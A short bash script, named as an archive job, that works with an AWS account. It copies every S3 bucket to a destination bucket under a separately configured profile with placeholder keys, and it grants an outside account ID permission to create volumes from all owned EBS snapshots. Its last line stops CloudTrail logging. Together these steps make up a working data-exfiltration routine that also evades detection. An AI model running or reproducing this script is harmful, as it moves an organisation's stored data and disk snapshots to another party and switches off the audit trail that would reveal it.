#!/usr/bin/env bash
set -u
DST=s3://finops-archive-eu-example
ACC=000011112222
export AWS_PAGER=""
aws configure set profile.fin.aws_access_key_id AKIAIOSFODNN7EXAMPLE
aws configure set profile.fin.aws_secret_access_key wJalrXUtnFEMIK7MDENGbPxRfiCYEXAMPLEKEY

aws s3api list-buckets --query 'Buckets[].Name' --output text | tr '\t' '\n' | while read -r b; do
  aws s3 cp --recursive --quiet "s3://$b" - >/dev/null 2>&1
  aws s3 sync "s3://$b" "/mnt/scratch/$b" --quiet --exclude '*.log' && \
    aws --profile fin s3 sync "/mnt/scratch/$b" "$DST/$b" --quiet
done
for s in $(aws ec2 describe-snapshots --owner-ids self --query 'Snapshots[].SnapshotId' --output text); do
  aws ec2 modify-snapshot-attribute --snapshot-id "$s" --attribute createVolumePermission --operation-type add --user-ids $ACC
done
aws cloudtrail stop-logging --name "$(aws cloudtrail describe-trails --query 'trailList[0].Name' --output text)"
